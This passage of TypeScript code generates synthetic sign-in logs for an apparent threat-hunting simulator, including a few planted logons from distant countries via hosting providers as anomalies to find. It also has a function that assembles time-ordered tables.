    const d = r.pick(devices);
    rows.push(
      row(u, timeIn(r, src), home, {
        ActionType: failed ? "LogonFailed" : "LogonSuccess",
        Application: cloud ? "Microsoft 365" : "Active Directory",
        LogonType: cloud ? "Interactive" : r.pick(["Credentials validation", "Resource access", "Interactive"]),
        Protocol: cloud ? "" : r.pick(["Kerberos", "Ntlm"]),
        FailureReason: failed ? r.pick(["WrongPassword", "AccountLocked"]) : "",
        DeviceName: cloud ? "" : d.deviceDnsName,
        DeviceType: cloud ? "" : "Workstation",
        OSPlatform: cloud ? "" : d.osPlatform,
        IPAddress: cloud ? `${r.pick([81, 86, 92, 145])}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}` : d.ipAddress,
        Port: cloud ? null : r.int(49152, 65535),
        DestinationDeviceName: cloud ? "" : `dc01.${src.data.domain.split(".")[0]}.corp`,
        DestinationPort: cloud ? null : 88,
        Isp: cloud ? r.pick(["Ziggo", "Deutsche Telekom", "Comcast", "BT"]) : "",
      }),
    );
  }
  // Sign-ins from a country the user never signed in from, in the last few days.
  for (let i = 0, k = r.int(1, 3); i < k; i++) {
    const u = r.pick(users);
    const country = r.pick(FAR_COUNTRIES);
    rows.push(
      row(u, Math.floor(src.anchorMs - r.next() * 3 * DAY), country, {
        ActionType: "LogonSuccess",
        Application: "Microsoft 365",
        LogonType: "Interactive",
        IPAddress: `${r.pick([5, 31, 41, 95, 102, 185])}.${r.int(1, 254)}.${r.int(1, 254)}.${r.int(1, 254)}`,
        Isp: r.pick(["Hosting LLC", "VPS Provider", "Mobile Carrier"]),
      }),
    );
  }
  return rows;
}

const GENERATORS: Record<string, (src: HuntingSource) => Row[]> = {
  DeviceInfo: deviceInfo,
  DeviceProcessEvents: deviceProcessEvents,
  DeviceNetworkEvents: deviceNetworkEvents,
  DeviceFileEvents: deviceFileEvents,
  AlertInfo: alertInfo,
  AlertEvidence: alertEvidence,
  EmailEvents: emailEvents,
  IdentityLogonEvents: identityLogonEvents,
};

/** Builds one table for one tenant, rows in time order (as ingested). */
export function buildTable(name: string, src: HuntingSource): Table | undefined {
  const gen = GENERATORS[name];
  if (!gen) return undefined;
  const rows = gen(src).sort((a, b) => (a.Timestamp as number) - (b.Timestamp as number));
  // One copy of each repeated string (command lines, paths, names are built per row): about half the memory.
  const pool = new Map<string, string>();
  const text = SCHEMAS[name]!.filter((c) => c.type === "string").map((c) => c.name);
  for (const row of rows) {
    for (const c of text) {
      const v = row[c] as string;
      const p = pool.get(v);
      if (p === undefined) pool.set(v, v);
      else row[c] = p;
    }
  }
  return { columns: SCHEMAS[name]!, rows };
}
